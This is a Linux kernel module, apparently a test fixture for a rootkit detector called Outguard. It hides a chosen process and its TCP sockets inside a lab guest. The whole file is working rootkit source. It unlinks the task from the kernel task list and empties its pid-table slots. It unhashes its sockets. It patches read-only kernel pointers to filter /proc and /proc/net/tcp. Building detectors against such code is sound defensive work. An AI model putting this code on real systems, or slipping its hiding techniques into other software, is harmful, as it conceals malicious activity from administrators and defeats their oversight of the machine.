// SPDX-License-Identifier: GPL-2.0
/*
 * For the lab's guests only: hides a process and a socket from the guest's own /proc, as a rootkit
 * would, so that the tests can see Outguard find them. Parameters choose what is hidden and how;
 * removing the module undoes what can be undone. The words of the lab: outguard_lab/module.py.
 *
 * Two kernel structures are changed at once by other processors; no lock of theirs is exported, so
 * the changes are made while stop_machine() keeps every processor at a place where it holds none.
 */
#include <linux/dcache.h>
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/idr.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/net.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/stop_machine.h>
#include <linux/version.h>
#include <linux/vmalloc.h>
#include <net/inet_hashtables.h>
#include <net/sock.h>

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "process to hide");
static bool task_list;
module_param(task_list, bool, 0);
MODULE_PARM_DESC(task_list, "unlink it from the list of tasks");
static bool pid_table;
module_param(pid_table, bool, 0);
MODULE_PARM_DESC(pid_table, "take it out of the pid table: /proc lists it no more");
static bool sock_hash;
module_param(sock_hash, bool, 0);
MODULE_PARM_DESC(sock_hash, "unlink its TCP sockets from their hash table");
static ushort seq_port;
module_param(seq_port, ushort, 0);
MODULE_PARM_DESC(seq_port, "hook /proc/net/tcp: no row with this port, local or remote");
static bool proc_iterate;
module_param(proc_iterate, bool, 0);
MODULE_PARM_DESC(proc_iterate, "hook the directory of /proc: no entry for the process");

static struct task_struct *hidden;

/* ---- The process ------------------------------------------------------------------------------ */

static int unlink_task(void *unused)
{
	list_del_rcu(&hidden->tasks);
	return 0;
}

/* A node that leads to itself is unlinked once more, harmlessly, when the process ends. */
static int close_links(void *unused)
{
	INIT_LIST_HEAD(&hidden->tasks);
	return 0;
}

static int link_task(void *unused)
{
	if (pid_alive(hidden))
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	return 0;
}

/* The slot stays taken, and empty: nobody else is given the number. */
static int empty_slots(void *unused)
{
	struct pid *number = task_pid(hidden);
	unsigned int level;

	for (level = 0; level <= number->level; ++level)
		idr_replace(&number->numbers[level].ns->idr, NULL, number->numbers[level].nr);
	return 0;
}

static int fill_slots(void *unused)
{
	struct pid *number = pid_alive(hidden) ? task_pid(hidden) : NULL;
	unsigned int level;

	for (level = 0; number && level <= number->level; ++level)
		idr_replace(&number->numbers[level].ns->idr, number, number->numbers[level].nr);
	return 0;
}

/* ---- Its sockets ------------------------------------------------------------------------------ */

static int unhash_socket(const void *unused, struct file *file, unsigned int descriptor)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
	struct socket *socket = sock_from_file(file);
#else
	int error;
	struct socket *socket = sock_from_file(file, &error);
#endif
	if (socket && socket->sk && socket->sk->sk_family == AF_INET &&
	    socket->sk->sk_protocol == IPPROTO_TCP) {
		__sk_nulls_del_node_init_rcu(socket->sk);
		pr_info("lab_hide: descriptor %u unhashed\n", descriptor);
	}
	return 0;
}

static int unhash_sockets(void *unused)
{
	iterate_fd(hidden->files, 0, unhash_socket, NULL);
	return 0;
}

/* ---- Hooks ------------------------------------------------------------------------------------ */

/* Writes one pointer of the kernel's read-only data through a mapping of its own. */
static int write_pointer(const void *where, const void *value)
{
	struct page *page = virt_to_page(where);
	void *window = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!window)
		return -ENOMEM;
	WRITE_ONCE(*(const void **)(window + offset_in_page(where)), value);
	vunmap(window);
	return 0;
}

static const struct seq_operations *tcp_rows;
static int (*show_tcp_row)(struct seq_file *seq, void *row);

static int show_other_tcp_row(struct seq_file *seq, void *row)
{
	const struct sock_common *common = row;

	if (row != SEQ_START_TOKEN &&
	    (common->skc_num == seq_port || ntohs(common->skc_dport) == seq_port))
		return 0;
	return show_tcp_row(seq, row);
}

static int hook_tcp_rows(void)
{
	struct file *file = filp_open("/proc/net/tcp", O_RDONLY, 0);

	if (IS_ERR(file))
		return PTR_ERR(file);
	tcp_rows = ((struct seq_file *)file->private_data)->op;
	show_tcp_row = tcp_rows->show;
	filp_close(file, NULL);
	return write_pointer(&tcp_rows->show, show_other_tcp_row);
}

static const struct file_operations *proc_root;
static int (*list_proc)(struct file *directory, struct dir_context *context);

struct filter {
	struct dir_context context;
	struct dir_context *asked;
};

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 1, 0)
#define FILTERED true
static bool take_other(struct dir_context *context, const char *name, int length, loff_t offset,
		       u64 inode, unsigned int type)
#else
#define FILTERED 0
static int take_other(struct dir_context *context, const char *name, int length, loff_t offset,
		      u64 inode, unsigned int type)
#endif
{
	struct filter *filter = container_of(context, struct filter, context);
	char text[16];

	if (length == snprintf(text, sizeof(text), "%d", pid) && !memcmp(name, text, length))
		return FILTERED;
	filter->asked->pos = context->pos;
	return filter->asked->actor(filter->asked, name, length, offset, inode, type);
}

static int list_other_proc(struct file *directory, struct dir_context *context)
{
	struct filter filter = { .context = { .actor = take_other, .pos = context->pos },
				 .asked = context };
	int outcome = list_proc(directory, &filter.context);

	context->pos = filter.context.pos;
	return outcome;
}

static int hook_proc(void)
{
	struct file *file = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);

	if (IS_ERR(file))
		return PTR_ERR(file);
	proc_root = file->f_op;
	list_proc = proc_root->iterate_shared;
	filp_close(file, NULL);
	return write_pointer(&proc_root->iterate_shared, list_other_proc);
}

/* ---- Life ------------------------------------------------------------------------------------- */

static void reveal(void)
{
	if (show_tcp_row)
		write_pointer(&tcp_rows->show, show_tcp_row);
	if (list_proc)
		write_pointer(&proc_root->iterate_shared, list_proc);
	if (hidden) {
		if (task_list)
			stop_machine(link_task, NULL, NULL);
		if (pid_table)
			stop_machine(fill_slots, NULL, NULL);
		put_task_struct(hidden);
	}
	synchronize_rcu();
}

static int __init start(void)
{
	struct pid *number = pid ? find_get_pid(pid) : NULL;
	int outcome = 0;

	if (number) {
		hidden = get_pid_task(number, PIDTYPE_TGID);
		put_pid(number);
	}
	if (pid && !hidden)
		return -ESRCH;
	if (hidden && sock_hash)
		stop_machine(unhash_sockets, NULL, NULL);
	if (hidden && task_list) {
		stop_machine(unlink_task, NULL, NULL);
		synchronize_rcu();
		stop_machine(close_links, NULL, NULL);
	}
	if (hidden && pid_table)
		stop_machine(empty_slots, NULL, NULL);
	if (seq_port)
		outcome = hook_tcp_rows();
	if (!outcome && proc_iterate)
		outcome = hook_proc();
	if (outcome)
		reveal();
	return outcome;
}

static void __exit stop(void)
{
	reveal();
}

module_init(start);
module_exit(stop);
MODULE_DESCRIPTION("hides a process and a socket in a test guest");
MODULE_LICENSE("GPL");
